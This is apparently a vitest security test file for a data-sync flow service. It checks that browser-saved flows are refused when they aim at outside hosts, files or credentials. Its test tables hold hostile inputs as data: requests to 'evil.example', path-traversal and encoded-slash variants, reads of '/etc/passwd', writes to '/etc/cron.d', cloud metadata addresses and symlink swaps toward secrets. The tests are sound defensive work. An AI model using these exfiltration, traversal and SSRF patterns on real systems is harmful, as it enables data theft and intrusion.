// biome-ignore-all lint/suspicious/noTemplateCurlyInString: references of flow files
import { mkdir, readdir, readFile, rename, symlink, writeFile } from 'node:fs/promises'
import { createServer } from 'node:net'
import { join } from 'node:path'
import { sql as raw } from 'kysely'
import { afterAll, beforeAll, expect, test, vi } from 'vitest'
import { ownSecrets } from '../../src/app/secrets-file.ts'
import { createFlowContext } from '../../src/flows/definition/flow-context.ts'
import { createFlowReader } from '../../src/flows/loading/read-flow.ts'
import { needsPostgres, postgresUrl } from '../support/database.ts'
import { eventually } from '../support/eventually.ts'
import {
  connectedFlow,
  startTarget,
  startTestFlows,
  type TestFlows,
  type TestTarget,
} from '../support/flows.ts'
import { join as joinAs, ownPage } from '../support/people.ts'
import { startTestService, type TestService } from '../support/service.ts'

/** Passwords take 0.1 s of a processor each. */
vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 })

const secret = 'canary-connection-secret-0123456789'
let service: TestService
let shop: TestTarget
let other: TestTarget
let flows: TestFlows
let author: { cookie: string }
let viewer: { cookie: string }
let serial = 0

beforeAll(async () => {
  service = await startTestService()
  shop = await startTarget()
  other = await startTarget()
  flows = await startTestFlows({
    service,
    env: { SYNC_TOKEN: 's'.repeat(40), SHOP_TOKEN: secret, ERP_FOLDER: '/srv/nowhere' },
  })
  await mkdir(join(flows.dir, 'erp'))
  await flows.write('connections.yaml', {
    version: 1,
    connections: {
      files: { type: 'folder', path: join(flows.dir, 'erp') },
      shop: {
        type: 'http',
        url: `${shop.url}/api`,
        headers: { 'x-shop-token': '${env:SHOP_TOKEN}' },
        allowPrivateNetwork: true,
      },
      hook: { type: 'webhook', url: `${shop.url}/alerts`, allowPrivateNetwork: true },
      ...(postgresUrl && { dwh: { type: 'sql', driver: 'postgres', url: postgresUrl } }),
    },
  })
  author = await joinAs(service, { name: 'author', role: 'flow_operator' })
  viewer = await joinAs(service, { name: 'watcher', role: 'viewer' })
})
afterAll(async () => {
  await flows.stop()
  await shop.close()
  await other.close()
  await service.stop()
})

type Definition = Record<string, unknown>

const as = (person: { cookie: string }) => ({ headers: { cookie: person.cookie, ...ownPage } })
const post = (url: string, body: object, person = author) =>
  flows.call('POST', url, { body, ...as(person) })
const save = (file: string, definition: Definition | string, base: string | null = null) =>
  flows.call('PUT', `/flow-files/${file}`, {
    body: { text: typeof definition === 'string' ? definition : JSON.stringify(definition), base },
    ...as(author),
  })

function flow(change: Definition = {}): Definition {
  serial += 1
  return connectedFlow(`reach${serial}`, change)
}
const destinations = (...list: Definition[]) => ({ destinations: list })
const file = (change: Definition = {}) => ({
  name: 'web',
  type: 'file',
  path: 'out.ndjson',
  ...change,
})
const http = (request: Definition, change: Definition = {}) => ({
  name: 'web',
  type: 'http',
  connection: 'shop',
  request,
  ...change,
})

/** Saves, checks and tries a definition as a flow operator; answers the codes of the refusals. */
async function refusals(definition: Definition): Promise<string[]> {
  const text = JSON.stringify(definition)
  const name = `${String(definition.name)}.flow.yaml`
  const saved = await save(name, definition)
  const tried = await post('/flow-definitions/dry-run', { text })
  const checked = await post('/flow-definitions/check', { text, file: name })
  expect([saved.statusCode, tried.statusCode, checked.statusCode]).toEqual([400, 400, 200])
  expect(await readdir(flows.flowsDir)).not.toContain(name)
  return checked.json().problems.map(({ why }: { why: { code: string } }) => why.code)
}

const sql = (url: string, driver = 'postgres') => ({
  source: { type: 'sql', driver, url, query: 'select * from people' },
})

test.each<[string, Definition, string]>([
  ['a database by an address', sql('postgres://root@127.0.0.1:5432/test'), 'NEEDS_CONNECTION'],
  ['MySQL by an address', sql('mysql://root@127.0.0.1/test', 'mysql'), 'NEEDS_CONNECTION'],
  ['SQL Server by an address', sql('mssql://sa@127.0.0.1/test', 'mssql'), 'NEEDS_CONNECTION'],
  ['Firebird by an address', sql('firebird://sa@127.0.0.1/x.fdb', 'firebird'), 'NEEDS_CONNECTION'],
  [
    'an SFTP server by an address',
    {
      source: {
        ...{ type: 'sftp', url: 'sftp://erp@127.0.0.1', hostKey: `SHA256:${'a'.repeat(43)}` },
        ...{ password: '${env:SHOP_TOKEN}', path: '/out/*.csv', format: 'csv' },
      },
    },
    'NEEDS_CONNECTION',
  ],
  [
    'a file by a path',
    { source: { type: 'file', path: '/etc/passwd', format: 'csv' } },
    'NEEDS_CONNECTION',
  ],
  ['a written file by a path', destinations(file()), 'NEEDS_CONNECTION'],
  [
    'a program of the service',
    destinations(file({ path: 'node_modules/ssh2/index.js' })),
    'NEEDS_CONNECTION',
  ],
  [
    'a request by an address',
    destinations({ name: 'web', type: 'http', request: { url: 'https://evil.example/{pk}' } }),
    'NEEDS_CONNECTION',
  ],
  [
    'an alert by an address',
    { alerts: { onJobFailed: [{ type: 'webhook', url: 'https://evil.example' }] } },
    'NEEDS_CONNECTION',
  ],
  [
    'an alert by mail',
    { alerts: { onJobFailed: [{ type: 'email', to: 'someone@evil.example' }] } },
    'NEEDS_CONNECTION',
  ],
  ['private networks for all', { allowPrivateNetwork: true }, 'NEEDS_CONNECTION'],
  [
    'a variable',
    destinations(http({ path: '/x', headers: { 'x-a': '${env:SHOP_TOKEN}' } })),
    'REFERENCE_IN_BROWSER',
  ],
  [
    'a file as a secret',
    destinations(http({ path: '/${file:/etc/passwd}' })),
    'REFERENCE_IN_BROWSER',
  ],
  [
    'an address beside a connection',
    destinations(http({ url: 'https://evil.example/' })),
    'KEY_OF_CONNECTION',
  ],
  [
    'a look-up elsewhere',
    destinations(
      http({ path: '/x' }, { find: { url: 'https://evil.example', remember: { id: 'id' } } }),
    ),
    'KEY_OF_CONNECTION',
  ],
  [
    'a batch elsewhere',
    destinations(
      http({ path: '/x' }, { batch: { size: 2, request: { url: 'https://evil.example' } } }),
    ),
    'KEY_OF_CONNECTION',
  ],
  [
    'a delete elsewhere',
    destinations(http({ path: '/x' }, { delete: { url: 'https://evil.example' } })),
    'KEY_OF_CONNECTION',
  ],
  [
    'tokens of another server',
    destinations(
      http(
        { path: '/x' },
        {
          auth: {
            type: 'oauth2',
            tokenUrl: 'https://evil.example',
            clientId: 'a',
            clientSecret: 'b',
          },
        },
      ),
    ),
    'KEY_OF_CONNECTION',
  ],
  [
    'another header of the connection',
    destinations(http({ path: '/x', headers: { 'X-Shop-Token': 'a' } })),
    'KEY_OF_CONNECTION',
  ],
  [
    'another host',
    destinations(http({ path: '/x', headers: { Host: 'admin.internal' } })),
    'KEY_OF_CONNECTION',
  ],
  ['the folder above', destinations(http({ path: '/../admin' })), 'PATH_NOT_BELOW'],
  ['the folder above, encoded', destinations(http({ path: '/%2e%2e/admin' })), 'PATH_NOT_BELOW'],
  ['an encoded slash', destinations(http({ path: '/..%2fadmin' })), 'PATH_NOT_BELOW'],
  ['a slash encoded twice', destinations(http({ path: '/x%252f..' })), 'PATH_NOT_BELOW'],
  ['a host after two slashes', destinations(http({ path: '//evil.example/' })), 'PATH_NOT_BELOW'],
  ['a longer host', destinations(http({ path: '.evil.example/' })), 'PATH_NOT_BELOW'],
  ['a user before a host', destinations(http({ path: '@evil.example/' })), 'PATH_NOT_BELOW'],
  ['a backslash', destinations(http({ path: '/\\evil.example' })), 'PATH_NOT_BELOW'],
  [
    'files above the folder',
    destinations(file({ connection: 'files', path: '../../x' })),
    'FILE_NOT_BELOW',
  ],
  [
    'files elsewhere',
    destinations(file({ connection: 'files', path: '/etc/cron.d/x' })),
    'FILE_NOT_BELOW',
  ],
  ['files of a drive', destinations(file({ connection: 'files', path: 'C:/x' })), 'FILE_NOT_BELOW'],
  [
    'a hidden marker',
    {
      source: {
        ...{ type: 'file', connection: 'files', path: '*.csv', format: 'csv' },
        ...{ after: 'delete', ready: '.{stem}' },
      },
    },
    'MUST_BE_MARKER_NAME',
  ],
  [
    'a connection of another type',
    destinations(file({ connection: 'shop' })),
    'CONNECTION_OF_OTHER_TYPE',
  ],
  [
    'an unknown connection',
    destinations(http({ path: '/x' }, { connection: 'shopp' })),
    'CONNECTION_UNKNOWN',
  ],
])('T53: a flow that is saved in the browser cannot reach %s', async (_, change, code) => {
  const found = await refusals(flow(change))
  expect(new Set(found)).toEqual(new Set([code]))
})

test('T53: a check says nothing of variables and files that exist, to an author or a viewer', async () => {
  const answers = await Promise.all(
    ['${file:/etc/hostname}', '${file:/nowhere}', '${env:SHOP_TOKEN}', '${env:NOTHING}'].map(
      async (given) => {
        const text = JSON.stringify(
          connectedFlow('oracle', destinations(http({ path: '/x', headers: { 'x-a': given } }))),
        )
        const { problems } = (await post('/flow-definitions/check', { text })).json()
        return problems
      },
    ),
  )
  for (const problems of answers) expect(problems).toEqual(answers[0])
  const asViewer = await post('/flow-definitions/check', { text: '' }, viewer)
  expect(asViewer.statusCode).toBe(403)
})

test('a flow by connections runs: its requests have the credentials and stay below the address', {
  tags: ['long'],
}, async () => {
  const definition = flow()
  const name = String(definition.name)
  await flows.write(`erp/${name}.json`, [{ id: 'A/1' }, { id: '..' }, { id: '../admin' }])
  const saved = await save(`${name}.flow.yaml`, definition)
  expect(saved.json()).toMatchObject({ name, problems: [] })
  await flows.call('POST', `/sync/${name}?force=true`, as(author))
  await flows.ended(name)
  const sent = shop.received.filter(({ path }) => path.includes(name))
  expect(sent.map(({ path, headers }) => [path, headers['x-shop-token']])).toEqual([
    [`/api/${name}/A%2F1`, secret],
  ])
  const errors = (await flows.call('GET', `/errors?flow=${name}`, as(author))).json()
  expect(errors.map(({ pk }: { pk: string }) => pk).sort()).toEqual(['..', '../admin'])
})

const withAddress = (name: string, change: Definition = {}) =>
  connectedFlow(name, {
    allowPrivateNetwork: true,
    ...destinations({
      ...{ name: 'web', type: 'http', concurrency: 1 },
      request: {
        method: 'PUT',
        url: `${shop.url}/own/{pk}`,
        headers: { 'x-own': '${env:SHOP_TOKEN}' },
      },
      ...change,
    }),
  })

/** A file that the administrator wrote on the disk, with the hash that a save names. */
async function onDisk(
  definition: Definition,
): Promise<{ name: string; file: string; base: string }> {
  const name = String(definition.name)
  await flows.write(`${name}.flow.yaml`, definition)
  await flows.call('POST', '/flows/reload', as(author))
  const { hash } = (await flows.call('GET', `/flow-files/${name}.flow.yaml`, as(author))).json()
  return { name, file: `${name}.flow.yaml`, base: hash }
}

test('of a file with an address of its own, the browser can change what holds neither address nor reference', {
  tags: ['long'],
}, async () => {
  const { name, file: own, base } = await onDisk(withAddress('owned'))
  const changed = withAddress(name, {
    ...{ concurrency: 2, map: '{ "id": id }', filter: 'id != "9"', timeout: '5s' },
    retry: { attempts: 3 },
  })
  const saved = await save(
    own,
    { ...changed, pollInterval: '2h', item: { key: 'id', filter: 'true' } },
    base,
  )
  expect(saved.json()).toMatchObject({ name, problems: [] })
  const tried = await post('/flow-definitions/dry-run', {
    text: JSON.stringify(changed),
    file: own,
  })
  // The file of the source does not exist; its absence is what the dry run says, not a refusal.
  expect(tried.statusCode).toBe(502)
})

test.each<[string, (name: string) => Definition]>([
  ['the address', (name) => withAddress(name, { request: { url: `${other.url}/{pk}` } })],
  [
    'a header',
    (name) =>
      withAddress(name, {
        request: {
          method: 'PUT',
          url: `${shop.url}/own/{pk}`,
          headers: { 'x-own': '${env:ERP_FOLDER}' },
        },
      }),
  ],
  [
    'the method',
    (name) =>
      withAddress(name, {
        request: {
          method: 'DELETE',
          url: `${shop.url}/own/{pk}`,
          headers: { 'x-own': '${env:SHOP_TOKEN}' },
        },
      }),
  ],
  [
    'a look-up',
    (name) => withAddress(name, { find: { url: `${other.url}/`, remember: { a: 'a' } } }),
  ],
])('of a file with an address of its own, the browser cannot change %s', async (_, change) => {
  serial += 1
  const { name, file: own, base } = await onDisk(withAddress(`owned${serial}`))
  const saved = await save(own, change(name), base)
  expect([saved.statusCode, saved.json().why.code]).toEqual([400, 'DEFINITION_WRONG'])
  const checked = await post('/flow-definitions/check', {
    text: JSON.stringify(change(name)),
    file: own,
  })
  expect(checked.json().problems[0].why.code).toBe('ONLY_ON_DISK')
  // Under another name, nothing of it may be used.
  const copied = await post('/flow-definitions/check', {
    text: JSON.stringify(withAddress('copy')),
  })
  expect(copied.json().problems[0].why.code).toBe('NEEDS_CONNECTION')
})

test('an address of one destination cannot be used by another one', async () => {
  const { name, file: own, base } = await onDisk(withAddress('twice'))
  const [one] = withAddress(name).destinations as Definition[]
  const two = { ...withAddress(name), destinations: [one, { ...one, name: 'second' }] }
  expect((await save(own, two, base)).statusCode).toBe(400)
})

test('T53: the real place of a file is checked at each access, also when a folder becomes a link', async () => {
  const secrets = join(flows.dir, 'secrets')
  await mkdir(secrets)
  await writeFile(join(secrets, 'a.csv'), `id;v\n1;${secret}\n`)
  await mkdir(join(flows.dir, 'erp/in'))
  await writeFile(join(flows.dir, 'erp/in/a.csv'), 'id;v\n1;plain\n')
  const definition = flow({
    source: {
      ...{ type: 'file', connection: 'files', path: 'in/*.csv', format: 'csv', settle: '0s' },
      ...{ csv: { delimiter: ';' }, after: 'delete' },
    },
    ...destinations(file({ connection: 'files', path: 'out/x.ndjson' })),
  })
  const name = String(definition.name)
  expect((await save(`${name}.flow.yaml`, definition)).statusCode).toBe(200)
  await rename(join(flows.dir, 'erp/in'), join(flows.dir, 'erp/was'))
  await symlink(secrets, join(flows.dir, 'erp/in'))
  const sync = await flows.call('POST', `/sync/${name}?force=true`, as(author))
  expect(sync.statusCode).toBe(502)
  expect(sync.body).not.toContain(secret)
  expect(await readdir(secrets)).toEqual(['a.csv'])

  await rename(join(flows.dir, 'erp/in'), join(flows.dir, 'erp/link'))
  await rename(join(flows.dir, 'erp/was'), join(flows.dir, 'erp/in'))
  await symlink(secrets, join(flows.dir, 'erp/out'))
  await flows.call('POST', `/sync/${name}?force=true`, as(author))
  expect(await readdir(secrets)).toEqual(['a.csv'])
})

test('T53: no definition, also on the disk, reads or writes a file of the service', async () => {
  const config = {
    dataDir: join(flows.dir, 'data'),
    flowsDir: flows.flowsDir,
    connectionsFile: join(flows.dir, 'connections.yaml'),
  }
  const context = createFlowContext(
    {},
    { smtpUrl: undefined, mailFrom: undefined },
    ownSecrets(config),
  )
  const read = createFlowReader(context)
  const places = [
    ...['node_modules/ssh2/lib/index.js', '.env', 'src/app/start.ts', 'package.json'],
    join(config.dataDir, 'pglite/PG_VERSION'),
    ...[join(flows.flowsDir, 'x.flow.yaml'), config.connectionsFile],
  ]
  for (const path of places) {
    for (const part of [
      { source: { type: 'file', path, format: 'csv', after: 'delete' } },
      destinations(file({ path })),
    ]) {
      const found = read(
        'f.flow.yaml',
        Buffer.from(
          JSON.stringify(
            connectedFlow('own', {
              ...destinations(file({ path: '/srv/out.ndjson' })),
              source: { type: 'file', path: '/srv/a.csv', format: 'csv' },
              ...part,
            }),
          ),
        ),
      )
      const codes = 'problems' in found ? found.problems.map(({ why }) => why.code) : []
      expect([path, codes]).toEqual([
        path,
        [expect.stringMatching(/^(PLACE_OF_SERVICE|OWN_FILE)$/)],
      ])
    }
  }
})

test('T53: the driver of PostgreSQL sends no password and no user of the environment', async () => {
  const sent: string[] = []
  const server = createServer((socket) => {
    socket.on('data', (bytes) => {
      sent.push(bytes.toString('latin1'))
      // The length of a startup message stands first; a password has the type p.
      if (sent.length === 1) socket.write(Buffer.from('R\0\0\0\x08\0\0\0\x03', 'latin1'))
      else socket.end()
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as { port: number }
  const passfile = await flows.write('pgpass', `*:*:*:*:${secret}\n`)
  vi.stubEnv('PGPASSWORD', secret)
  vi.stubEnv('PGPASSFILE', passfile)
  vi.stubEnv('PGUSER', secret)
  vi.stubEnv('PGDATABASE', secret)
  try {
    const { readPostgres } = await import('../../src/flows/sources/sql-postgres.ts')
    const url = `postgres://erp@127.0.0.1:${port}`
    const read = readPostgres({
      ...{ url, statement: { text: 'select 1', values: [] }, timeoutMs: 2_000, fetchSize: 1 },
      signal: new AbortController().signal,
    })
    await expect(read.next()).rejects.toThrow()
  } finally {
    vi.unstubAllEnvs()
    server.close()
  }
  expect(sent.length).toBe(2)
  expect(sent.join(' ')).not.toContain(secret)
})

test('T53: the driver of Firebird is given no password of the environment, and no usual one', async () => {
  vi.stubEnv('ISC_PASSWORD', secret)
  try {
    const { readFirebird } = await import('../../src/flows/sources/sql-firebird.ts')
    const read = readFirebird({
      ...{ url: 'firebird://erp@127.0.0.1:9/erp.fdb', statement: { text: 'select 1', values: [] } },
      ...{ timeoutMs: 2_000, fetchSize: 1, signal: new AbortController().signal },
    })
    await expect(read.next()).rejects.toThrow('has no password')
  } finally {
    vi.unstubAllEnvs()
  }
})

test('a database at a metadata address is not dialled, by any driver and any spelling', async () => {
  const { refuseMetadataHost } = await import('../../src/flows/net/database-host.ts')
  for (const [driver, url] of [
    ['postgres', 'postgres://u@169.254.169.254/x'],
    ['postgres', 'postgres://u@db.example/x?host=169.254.169.254'],
    ['postgres', 'postgres://u@[::ffff:169.254.169.254]/x'],
    ['mysql', 'mysql://u@169.254.169.254/x'],
    ['mysql', 'mysql://u@db.example/x?host=169.254.169.254'],
    ['mssql', 'mssql://u@169.254.169.254/x'],
    ['mssql', 'Server=tcp:169.254.169.254,1433;Database=x;User Id=u'],
    ['firebird', 'firebird://u@169.254.169.254/x.fdb'],
    ['postgres', 'postgres://u@metadata.google.internal/x'],
  ] as const) {
    await expect(refuseMetadataHost(driver, url), url).rejects.toThrow('metadata')
  }
  const lookup = ((_host: string, _options: object, done: (...given: unknown[]) => void) =>
    done(null, [{ address: '169.254.169.254', family: 4 }])) as never
  await expect(refuseMetadataHost('mysql', 'mysql://u@db.example/x', lookup)).rejects.toThrow(
    'metadata',
  )
  await expect(refuseMetadataHost('mysql', 'mysql://u@127.0.0.1/x')).resolves.toBeUndefined()
})

test.skipIf(!postgresUrl)(
  `a connection that leads to the service’s own database reads nothing and writes nothing (${needsPostgres})`,
  async () => {
    const own = new URL(postgresUrl ?? '')
    const { rows } = await raw<{ name: string }>`select current_database() as name`.execute(
      service.database.db,
    )
    own.pathname = `/${rows[0]?.name}`
    const spelled = own.toString().replace('127.0.0.1', 'localhost')
    const ownFlows = await startTestFlows({
      service,
      env: {
        SYNC_TOKEN: 's'.repeat(40),
        DATABASE_URL: postgresUrl ?? '',
        ADMIN_TOKEN: 'a'.repeat(40),
        ENCRYPTION_KEYS: `k1:${Buffer.alloc(32, 1).toString('base64')}`,
      },
    })
    await ownFlows.write('connections.yaml', {
      version: 1,
      connections: { dwh: { type: 'sql', driver: 'postgres', url: spelled } },
    })
    await ownFlows.write('a.json', [{ id: '1' }])
    const admin = { headers: { 'x-api-token': 's'.repeat(40) } }
    const reading = connectedFlow('reads', {
      source: { type: 'sql', connection: 'dwh', query: 'select id, name from people' },
      ...destinations({ ...file(), path: join(ownFlows.dir, 'stolen.ndjson') }),
    })
    const writing = connectedFlow('writes', {
      source: { type: 'file', path: join(ownFlows.dir, 'a.json'), format: 'json', settle: '0s' },
      ...destinations({
        ...{ name: 'web', type: 'sql', connection: 'dwh', table: 'people', upsertKey: ['id'] },
        retry: { attempts: 1 },
      }),
    })
    await ownFlows.write('reads.flow.yaml', reading)
    await ownFlows.write('writes.flow.yaml', writing)
    await ownFlows.call('POST', '/flows/reload', admin)
    const read = await ownFlows.call('POST', '/sync/reads?force=true', admin)
    expect([read.statusCode, read.json().error]).toEqual([
      502,
      expect.stringContaining('database of the service'),
    ])
    await ownFlows.call('POST', '/sync/writes?force=true', admin)
    await eventually(async () => {
      const { body } = await ownFlows.call('GET', '/flow/writes/items/1', admin)
      expect(body).toContain('database of the service')
    })
    const test = await ownFlows.call('POST', '/flow-connections/dwh/test', admin)
    expect(test.json()).toMatchObject({ ok: false })
    await ownFlows.stop()
  },
)

test('connections are listed without credentials, and tried by who may save', async () => {
  const list = await flows.call('GET', '/flow-connections', as(viewer))
  expect(list.json().connections.map(({ name, type }: Definition) => [name, type])).toEqual([
    ...(postgresUrl ? [['dwh', 'sql']] : []),
    ['files', 'folder'],
    ['hook', 'webhook'],
    ['shop', 'http'],
  ])
  expect(list.body).not.toContain(secret)
  const tested = await post('/flow-connections/shop/test', {})
  expect(tested.json()).toEqual({
    name: 'shop',
    ok: true,
    message: 'The address answers with HTTP 200',
  })
  expect(shop.received.at(-1)?.headers['x-shop-token']).toBe(secret)
  shop.answer(401)
  expect((await post('/flow-connections/shop/test', {})).json().ok).toBe(false)
  shop.answer(200)
  expect((await post('/flow-connections/hook/test', {})).json()).toMatchObject({ ok: true })
  expect((await post('/flow-connections/files/test', {})).json()).toMatchObject({ ok: true })
  expect((await post('/flow-connections/nothing/test', {})).statusCode).toBe(404)
  expect((await post('/flow-connections/shop/test', {}, viewer)).statusCode).toBe(403)
})

test('a flow that moves to a connection asks nothing; a connection that leads elsewhere asks once for all its flows', {
  tags: ['long'],
}, async () => {
  const names = ['moved1', 'moved2']
  const admin = as(author)
  const sent = (to: TestTarget, name: string) =>
    to.received.filter(({ path }) => path.endsWith(`/${name}/1`)).length
  for (const name of names) {
    await flows.write(`erp/${name}.json`, [{ id: '1' }])
    const own = connectedFlow(name, {
      ...{ startPaused: false, allowPrivateNetwork: true },
      source: {
        type: 'file',
        path: join(flows.dir, `erp/${name}.json`),
        format: 'json',
        settle: '0s',
      },
      ...destinations({
        ...http({ method: 'PUT', url: `${shop.url}/api/${name}/{pk}` }),
        connection: undefined,
      }),
    })
    await flows.write(`${name}.flow.yaml`, own)
  }
  await flows.call('POST', '/flows/reload', admin)
  const syncAll = async () => {
    for (const name of names) await flows.call('POST', `/sync/${name}`, admin)
    await flows.delivered()
  }
  await syncAll()
  expect(names.map((name) => sent(shop, name))).toEqual([1, 1])
  for (const name of names) {
    await flows.write(`${name}.flow.yaml`, connectedFlow(name, { startPaused: false }))
  }
  expect((await flows.call('POST', '/flows/reload', admin)).json().problems).toEqual([])
  await syncAll()
  const status = (await flows.call('GET', '/flows/status', admin)).json()
  expect(names.map((name) => [status[name].paused, sent(shop, name)])).toEqual([
    [false, 1],
    [false, 1],
  ])

  const before = await readFile(join(flows.dir, 'connections.yaml'), 'utf8')
  await flows.write('connections.yaml', before.replaceAll(`${shop.url}/api`, `${other.url}/api`))
  await flows.call('POST', '/flows/reload', admin)
  const asking = async () =>
    (await flows.call('GET', '/flow-connections', admin))
      .json()
      .connections.find((one: Definition) => one.name === 'shop').asking
  await expect.poll(asking, { timeout: 10_000 }).toEqual(names)
  expect(names.map((name) => sent(other, name))).toEqual([0, 0])
  const approved = await post('/flow-connections/shop/approve', {})
  expect(approved.json()).toEqual({ name: 'shop', flows: names })
  await syncAll()
  expect([await asking(), names.map((name) => sent(other, name))]).toEqual([[], [1, 1]])
  expect((await post('/flow-connections/shop/approve', {}, viewer)).statusCode).toBe(403)
  await flows.write('connections.yaml', before)
  for (const name of names) await flows.remove(`${name}.flow.yaml`)
})

test('a wrong connection stops the flows that use it, and no others', async () => {
  const before = await readFile(join(flows.dir, 'connections.yaml'), 'utf8')
  const { connections } = JSON.parse(before)
  const broken = { ...connections, shop: { ...connections.shop, url: 'ftp://x', nonsense: 1 } }
  await flows.write('connections.yaml', { version: 1, connections: broken })
  const text = JSON.stringify(flow())
  const { problems } = (await post('/flow-definitions/check', { text })).json()
  expect(problems.map(({ why }: { why: { code: string } }) => why.code)).toEqual([
    'CONNECTION_UNUSABLE',
  ])
  const reloaded = (await flows.call('POST', '/flows/reload', as(author))).json()
  expect(reloaded.problems.map((one: Definition) => [one.file, one.key])).toContainEqual([
    'connections.yaml',
    'connections.shop.url',
  ])
  await flows.write('connections.yaml', before)
})
